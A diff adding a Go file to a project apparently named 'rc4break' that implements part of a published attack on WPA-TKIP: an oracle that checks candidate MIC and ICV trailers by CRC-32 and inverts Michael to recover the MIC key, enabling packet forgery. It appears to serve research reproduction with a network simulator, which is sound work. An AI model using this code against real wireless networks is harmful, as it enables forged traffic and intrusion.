@@ -1,0 +1,59 @@
+package tkip
+
+import (
+	"rc4break/internal/checksum"
+	"rc4break/internal/michael"
+)
+
+// TrailerOracle is the online acceptance check for the §5.3 attack: a
+// candidate trailer (MIC ‖ ICV) for a known MSDU is accepted when the
+// CRC-32 ICV verifies over MSDU ‖ MIC, after which the Michael MIC key is
+// recovered by inversion — the §7.4 trailer verification that turns a
+// decrypted packet into forgery capability. An optional Confirm hook adds a
+// check on the recovered key itself (netsim implements it as a test
+// forgery against the network), which rejects the rare pure-ICV collisions
+// §5.4 observed once in the paper's own runs.
+type TrailerOracle struct {
+	DA, SA [6]byte
+	MSDU   []byte
+	// Confirm, when non-nil, validates a recovered MIC key; returning false
+	// rejects the candidate and the search continues.
+	Confirm func(micKey [michael.KeySize]byte) bool
+
+	// Checks counts candidates tested; ICVPasses counts candidates that
+	// passed the ICV but were rejected by Confirm plus the accepted one.
+	Checks    uint64
+	ICVPasses uint64
+	// MICKey and Found record the accepted key.
+	MICKey [michael.KeySize]byte
+	Found  bool
+
+	plain []byte // MSDU ‖ trailer scratch
+}
+
+// Check implements the online Oracle contract over trailer candidates.
+func (o *TrailerOracle) Check(trailer []byte) bool {
+	o.Checks++
+	if len(trailer) != TrailerSize {
+		return false
+	}
+	if o.plain == nil {
+		o.plain = make([]byte, len(o.MSDU)+TrailerSize)
+		copy(o.plain, o.MSDU)
+	}
+	copy(o.plain[len(o.MSDU):], trailer)
+	if !checksum.VerifyICV(o.plain) {
+		return false
+	}
+	o.ICVPasses++
+	key, err := RecoverMICKeyFromPlaintext(o.DA, o.SA, o.plain)
+	if err != nil {
+		return false
+	}
+	if o.Confirm != nil && !o.Confirm(key) {
+		return false
+	}
+	o.MICKey = key
+	o.Found = true
+	return true
+}
